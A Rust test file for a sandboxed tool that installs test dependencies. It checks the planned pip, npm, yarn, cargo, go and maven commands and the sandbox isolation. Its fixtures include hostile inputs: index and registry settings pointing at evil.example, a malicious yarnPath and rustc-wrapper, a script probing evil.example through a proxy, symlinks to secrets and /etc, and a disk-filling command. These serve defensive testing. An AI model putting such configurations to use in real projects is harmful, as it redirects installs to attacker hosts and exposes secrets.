//! Installing dependencies of tests: what is planned for which files, what the tests see, and that nobody can affect
//! others. No registry is contacted here.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use greenlight::checkout::Checkout;
use greenlight::domain::test_run::Outcome;
use greenlight::sandbox::{Backend, Choice, Policy, Sandbox};
use greenlight::suite::{
    Hints, InstallError, InstallRequest, InstallSettings, Installed, Prebuilt, Suite, TestSettings, find, install,
    plan, run_fresh, test_steps,
};
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;

const TOOLS: [&str; 9] = ["python3", "uv", "npm", "pnpm", "yarn", "cargo", "go", "mvn", "gradle"];

fn tree(files: &[(&str, &str)]) -> TempDir {
    let tree = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let path = tree.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    tree
}

/// The commands of the plan, reduced to the essential parts, and the files that they see.
fn planned(files: &[(&str, &str)], without: &[&str]) -> (Vec<String>, Option<Vec<String>>) {
    let tree = tree(files);
    let checkout = Checkout::open(tree.path()).unwrap();
    let command = find(&checkout, &TestSettings::default(), &Hints::default()).unwrap();
    let present: BTreeSet<String> = TOOLS
        .iter()
        .filter(|tool| !without.contains(tool))
        .map(ToString::to_string)
        .collect();
    let settings = InstallSettings {
        registries: true,
        ..InstallSettings::default()
    };
    let Some(plan) = plan(&checkout, &command, &settings, &present, None) else {
        return (Vec::new(), None);
    };
    let sees = plan.sees().map(|paths| paths.iter().map(ToString::to_string).collect());
    (plan.commands(), sees)
}

#[track_caller]
fn check(files: &[(&str, &str)], commands: &[&str], sees: &[&str]) {
    let (planned, seen) = planned(files, &[]);
    let planned: Vec<&str> = planned.iter().map(String::as_str).collect();
    assert!(
        commands
            .iter()
            .all(|command| planned.iter().any(|planned| planned.starts_with(command))),
        "{planned:#?}"
    );
    assert_eq!(planned.is_empty(), commands.is_empty(), "{planned:#?}");
    assert_eq!(seen.unwrap_or_default(), sees);
}

const PYTEST: (&str, &str) = ("tests/test_a.py", "def test_a(): pass\n");

#[test]
fn python_projects() {
    const PIP: &str =
        "/installed/venv/bin/python -m pip install --no-input --no-warn-script-location --only-binary=:all:";
    let venv = "python3 -m venv /installed/venv";
    check(
        &[
            PYTEST,
            ("requirements.txt", "requests\n"),
            (
                "requirements-dev.txt",
                "-r requirements.txt\n-c constraints.txt\npytest\n",
            ),
            ("requirements-docs.txt", "sphinx\n"),
            ("requirements/test.txt", "mock\n"),
            ("constraints.txt", "requests<3\n"),
            ("pip.conf", "[global]\nindex-url = https://evil.example/\n"),
            ("sitecustomize.py", "import os\n"),
        ],
        &[
            venv,
            &format!("{PIP} -r requirements-dev.txt -r requirements.txt -r requirements/test.txt -- pytest"),
        ],
        &[
            "constraints.txt",
            "requirements-dev.txt",
            "requirements-docs.txt",
            "requirements.txt",
            "requirements/test.txt",
        ],
    );
    let described = "[project]\nname = \"a\"\ndependencies = [\"requests>=2\", \"--index-url=https://evil.example\"]\n\
                     [project.optional-dependencies]\ntest = [\"mock\"]\ndocs = [\"sphinx\"]\n[dependency-groups]\ndev = [\"hypothesis\"]\n";
    check(
        &[PYTEST, ("pyproject.toml", described)],
        &[
            venv,
            &format!("{PIP} -- 'requests>=2' --index-url=https://evil.example mock pytest"),
            // With dependencies for tests, those for development are optional.
            &format!("{PIP} -- hypothesis"),
        ],
        &["pyproject.toml"],
    );
    check(&[PYTEST], &[venv, &format!("{PIP} -- pytest")], &[]);
    let unittest = (
        "tests/test_a.py",
        "import unittest\nclass TestA(unittest.TestCase):\n    pass\n",
    );
    check(&[unittest], &[], &[]);
    check(
        &[PYTEST, ("uv.lock", ""), ("pyproject.toml", "[project]\nname = \"a\"\n")],
        &["uv sync --frozen --no-install-workspace --no-build --all-extras --all-groups"],
        &["pyproject.toml", "uv.lock"],
    );
    let (commands, sees) = planned(&[PYTEST, ("setup.py", "from setuptools import setup\nsetup()\n")], &[]);
    assert!(
        commands[2].contains(".[test,tests,testing]") && sees.is_none(),
        "{commands:?}"
    );
    let (commands, _) = planned(&[PYTEST, ("uv.lock", "")], &["uv"]);
    assert_eq!(commands[0], "python3 -m venv /installed/tmp/tools");
    assert!(commands[1].ends_with("-- uv"), "{commands:?}");
    assert!(
        commands[2].starts_with("/installed/tmp/tools/bin/uv sync --frozen"),
        "{commands:?}"
    );
}

#[test]
fn a_lock_file_counts_without_the_tool_that_wrote_it() {
    let project = "[tool.poetry]\nname = \"a\"\n[tool.poetry.dependencies]\npython = \"^3.9\"\nrequests = \"^2\"\n";
    let lock = "[[package]]\nname = \"requests\"\nversion = \"2.31.0\"\n";
    let (commands, _) = planned(&[PYTEST, ("pyproject.toml", project), ("poetry.lock", lock)], &[]);
    assert!(commands[1].ends_with("sh 'requests==2.31.0'"), "{commands:#?}");
    let pip = "--only-binary=:all: -c /installed/tmp/constraints.txt -- 'requests>=2,<3' pytest";
    assert!(commands[2].ends_with(pip), "{commands:#?}");
}

#[test]
fn what_ci_installs_is_installed() {
    let workflow = "on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      \
                    - run: pip install -U tox 'attrs<24' -r ci/needs.txt -e .[fast]\n      - run: pytest --cov a tests\n";
    let files = [
        PYTEST,
        (".github/workflows/ci.yml", workflow),
        ("ci/needs.txt", "-r ../docs/more.txt\n"),
        ("docs/more.txt", "idna\n"),
        ("requirements.txt", "unused\n"),
        (
            "pyproject.toml",
            "[project]\nname = \"a\"\n[project.optional-dependencies]\nfast = [\"orjson\"]\n",
        ),
    ];
    let tree = tree(&files);
    let checkout = Checkout::open(tree.path()).unwrap();
    let hints = Hints {
        ci: test_steps(checkout.paths(), &mut |path| checkout.read_text(path)),
        ..Hints::default()
    };
    let command = find(&checkout, &TestSettings::default(), &hints).unwrap();
    assert_eq!(command.to_string(), "python3 -m pytest tests");
    assert_eq!(
        command.source.to_string(),
        "the job `test` in `.github/workflows/ci.yml`"
    );
    let present = BTreeSet::from(["python3".to_owned()]);
    let plan = plan(&checkout, &command, &InstallSettings::default(), &present, None).unwrap();
    let pip = "--only-binary=:all: -r ci/needs.txt -- orjson 'attrs<24' pytest";
    assert!(plan.commands()[1].ends_with(pip), "{:#?}", plan.commands());
    let sees = plan.sees().unwrap();
    let sees: Vec<&str> = sees.iter().map(|path| path.as_str()).collect();
    assert_eq!(
        sees,
        ["ci/needs.txt", "docs/more.txt", "pyproject.toml", "requirements.txt"]
    );
}

#[test]
fn node_projects_run_no_scripts_while_there_is_a_network() {
    let package = (
        "package.json",
        r#"{"scripts": {"test": "jest"}, "devDependencies": {"jest": "1"}}"#,
    );
    let code = ("evil.js", "");
    check(
        &[
            package,
            code,
            ("package-lock.json", "{}"),
            (".npmrc", "registry=https://evil.example/"),
        ],
        &["npm ci --ignore-scripts", "npm rebuild"],
        &[".npmrc", "package-lock.json", "package.json"],
    );
    check(&[package, code], &["npm install --ignore-scripts"], &["package.json"]);
    check(
        &[package, code, ("pnpm-lock.yaml", "")],
        &["pnpm install --frozen-lockfile --ignore-scripts", "pnpm rebuild"],
        &["package.json", "pnpm-lock.yaml"],
    );
    check(
        &[package, code, ("yarn.lock", "# yarn lockfile v1\n")],
        &["yarn install --frozen-lockfile --ignore-scripts"],
        &["package.json", "yarn.lock"],
    );
    check(
        &[
            package,
            code,
            ("yarn.lock", "__metadata:\n  version: 8\n"),
            (".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n"),
            (".yarn/releases/evil.cjs", ""),
        ],
        &[
            // Neither Yarn 1 nor the program in the tree can do it.
            "sh -c 'npm install --prefix /installed/tools --ignore-scripts",
            "/installed/tools/node_modules/.bin/yarn install --immutable --mode=skip-build",
        ],
        &[".yarnrc.yml", "package.json", "yarn.lock"],
    );
    check(&[("package.json", r#"{"scripts": {"test": "jest"}}"#)], &[], &[]);
    let (commands, _) = planned(&[package, ("pnpm-lock.yaml", "lockfileVersion: '6.0'\n")], &["pnpm"]);
    assert!(commands[0].ends_with(" sh pnpm@8"), "{commands:#?}");
    let pnpm = "/installed/tools/node_modules/.bin/pnpm install --frozen-lockfile --ignore-scripts";
    assert!(commands[2].starts_with(pnpm), "{commands:#?}");
}

#[test]
fn rust_go_and_java_projects() {
    let manifest = ("Cargo.toml", "[package]\nname = \"a\"\n");
    check(
        &[
            manifest,
            ("Cargo.lock", ""),
            ("src/lib.rs", ""),
            ("build.rs", ""),
            (".cargo/config.toml", "[build]\nrustc-wrapper = \"./evil\"\n"),
        ],
        &["cargo fetch --locked"],
        &["Cargo.lock", "Cargo.toml", "build.rs", "src/lib.rs"],
    );
    check(&[manifest], &["cargo fetch"], &["Cargo.toml"]);
    check(
        &[("go.mod", "module a\n"), ("go.sum", ""), ("a.go", "")],
        &["go mod download"],
        &["go.mod", "go.sum"],
    );
    check(
        &[("pom.xml", "<project/>"), ("src/main/java/A.java", "")],
        &["sh -c"],
        &["pom.xml", "src/main/java/.gitignore"],
    );
    // A wrapper is not run, but it names the version of a Maven that is missing here.
    let wrapper = "distributionUrl=https://mirror.example/maven/apache-maven-3.9.9-bin.zip\n";
    let wrapper = (".mvn/wrapper/maven-wrapper.properties", wrapper);
    let (commands, _) = planned(&[("pom.xml", "<project/>"), wrapper], &["mvn"]);
    let archive = "https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip";
    assert!(commands[0].contains(archive) && commands.len() == 2, "{commands:#?}");
    let (commands, _) = planned(&[("pom.xml", "<project/>"), wrapper], &[]);
    assert_eq!(commands.len(), 1, "{commands:#?}");
}

/// A place to install in, for one repository.
struct Scene {
    sandbox: Sandbox,
    folder: TempDir,
}

impl Scene {
    async fn new() -> Self {
        Self::with(Choice::Auto).await
    }

    async fn with(choice: Choice) -> Self {
        let helper = PathBuf::from(env!("CARGO_BIN_EXE_greenlight"));
        Self {
            sandbox: Sandbox::detect(choice, helper).await.unwrap(),
            folder: tempfile::tempdir().unwrap(),
        }
    }

    fn suite(&self, checkout: &Checkout, command: &str) -> Suite {
        let command = Some(command.to_owned());
        Suite {
            sandbox: self.sandbox.clone(),
            command: find(checkout, &TestSettings { command, timeout: None }, &Hints::default()).unwrap(),
            policy: Policy::default(),
            workspaces: self.folder.path().join("copies"),
            installed: Installed::default(),
            prebuilt: Prebuilt::default(),
            cold_proof: false,
            purpose: greenlight::suite::Purpose::default(),
            clock: greenlight::suite::RunClock::default(),
        }
    }

    async fn install(&self, suite: &Suite, checkout: &Checkout, line: &str) -> Result<Installed, InstallError> {
        let settings = InstallSettings {
            command: Some(line.to_owned()),
            ..InstallSettings::default()
        };
        let request = InstallRequest {
            sandbox: &self.sandbox,
            checkout,
            command: &suite.command,
            settings: &settings,
            policy: &suite.policy,
            workspaces: &suite.workspaces,
            store: &self.store(),
        };
        install(&request, &CancellationToken::new()).await
    }

    fn store(&self) -> PathBuf {
        self.folder.path().join("installed/o/r")
    }

    fn results(&self) -> usize {
        let entries = fs::read_dir(self.store()).unwrap().flatten();
        entries.filter(|entry| entry.path().is_dir()).count()
    }
}

fn checkout(tree: &Path) -> Checkout {
    Checkout::open(tree).unwrap()
}

#[tokio::test]
async fn tests_find_what_was_installed_and_cannot_change_it() {
    let scene = Scene::new().await;
    let tree = tree(&[("package.json", "{}")]);
    let checkout = checkout(tree.path());
    let mut suite = scene.suite(
        &checkout,
        "test -f node_modules/one/index.js && test -f /installed/extra && ! touch /installed/new && ! rm -rf node_modules/one/index.js \
         && ! mv /installed/extra /tmp/x && test ! -e /installed/tmp",
    );
    let line = "mkdir -p node_modules/one && touch node_modules/one/index.js && echo x > $TMPDIR/y && umask 077 && touch /installed/extra";
    suite.installed = scene.install(&suite, &checkout, line).await.unwrap();
    for _ in 0..2 {
        let run = run_fresh(&suite, &checkout, &[], &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(run.outcome, Outcome::Passed, "{}", run.tail);
    }
    assert_eq!(scene.results(), 1);
}

#[tokio::test]
async fn the_same_input_is_installed_once_and_any_other_anew() {
    let scene = Scene::new().await;
    let tree = tree(&[("package.json", "{}"), ("a.js", "1")]);
    let first = checkout(tree.path());
    let suite = scene.suite(&first, "cat /installed/token");
    let line = "head -c 16 /dev/urandom | od -x > /installed/token";
    let token = |installed: &Installed| fs::read_to_string(installed.mounts[0].source.join("token")).unwrap();
    let one = scene.install(&suite, &first, line).await.unwrap();
    let again = scene.install(&suite, &first, line).await.unwrap();
    assert_eq!((&one, token(&one)), (&again, token(&again)));

    // Changing a single byte that the installation sees leads to a separate result, without access to the other one.
    let mut hostile = first.clone();
    hostile.edit_text("a.js".parse().unwrap(), "2");
    let other = scene.install(&suite, &hostile, line).await.unwrap();
    assert_ne!(one.mounts[0].source, other.mounts[0].source);
    assert_eq!(token(&one), token(&again));
    let other = scene
        .install(&suite, &first, &format!("{line} # another command"))
        .await
        .unwrap();
    assert_ne!(one.mounts[0].source, other.mounts[0].source);
    assert_eq!(scene.results(), 3);
}

#[tokio::test]
async fn what_fails_is_no_result_and_says_what_was_missing() {
    let scene = Scene::new().await;
    let tree = tree(&[("package.json", "{}")]);
    let checkout = checkout(tree.path());
    let suite = scene.suite(&checkout, "true");
    let line = "exec python3 -c \"
import socket
open('/installed/half', 'w')
for host in ['evil.example', 'github.com']:
    proxy = socket.create_connection(('127.0.0.1', 3128))
    proxy.sendall(f'CONNECT {host}:443 HTTP/1.1\\\\r\\\\n\\\\r\\\\n'.encode())
    print(proxy.recv(1000).decode().split()[1])
print('\\x1b[31mno such package')
exit(7)
\"";
    let failed = scene.install(&suite, &checkout, line).await.unwrap_err().to_string();
    for said in [
        "exited with 7",
        "it needs evil.example, which is not allowed",
        "github.com, which belongs to GitHub and is never allowed",
        "403\n403\nno such package",
    ] {
        assert!(failed.contains(said), "{failed}");
    }
    assert_eq!(fs::read_dir(scene.store()).unwrap().count(), 0);
}

#[tokio::test]
async fn an_installation_that_fills_the_disk_is_ended() {
    let scene = Scene::new().await;
    let tree = tree(&[("package.json", "{}")]);
    let checkout = checkout(tree.path());
    let mut suite = scene.suite(&checkout, "true");
    suite.policy.limits.disk = 64 << 20;
    let line = "head -c 400000000 /dev/zero > /installed/big; sleep 100";
    let failed = scene.install(&suite, &checkout, line).await.unwrap_err().to_string();
    assert!(failed.contains("`[sandbox] disk`"), "{failed}");
}

#[tokio::test]
async fn links_in_a_result_lead_nowhere() {
    let scene = Scene::new().await;
    let secret = tempfile::NamedTempFile::new().unwrap();
    fs::write(secret.path(), "a secret").unwrap();
    let before = fs::metadata(secret.path()).unwrap();
    let tree = tree(&[("package.json", "{}")]);
    let checkout = checkout(tree.path());
    let target = secret.path().display();
    let mut suite = scene.suite(&checkout, "! cat /installed/link /installed/folder/*");
    let line = format!(
        "ln -s {target} /installed/link && ln -s {} /installed/folder && mkfifo /installed/pipe",
        "/etc"
    );
    suite.installed = scene.install(&suite, &checkout, &line).await.unwrap();
    let run = run_fresh(&suite, &checkout, &[], &CancellationToken::new())
        .await
        .unwrap();
    assert!(!run.tail.contains("a secret"), "{}", run.tail);
    let after = fs::metadata(secret.path()).unwrap();
    assert_eq!(before.permissions(), after.permissions());
}

#[tokio::test]
async fn nothing_is_installed_where_the_machine_itself_would_be_changed() {
    let scene = Scene::with(Choice::Only(Backend::None)).await;
    let tree = tree(&[("package.json", "{}")]);
    let checkout = checkout(tree.path());
    let suite = scene.suite(&checkout, "true");
    let line = format!("touch {}/ran", tree.path().display());
    let refused = scene.install(&suite, &checkout, &line).await.unwrap_err().to_string();
    assert!(refused.contains("the sandbox `none`"), "{refused}");
    assert!(!tree.path().join("ran").exists());
}
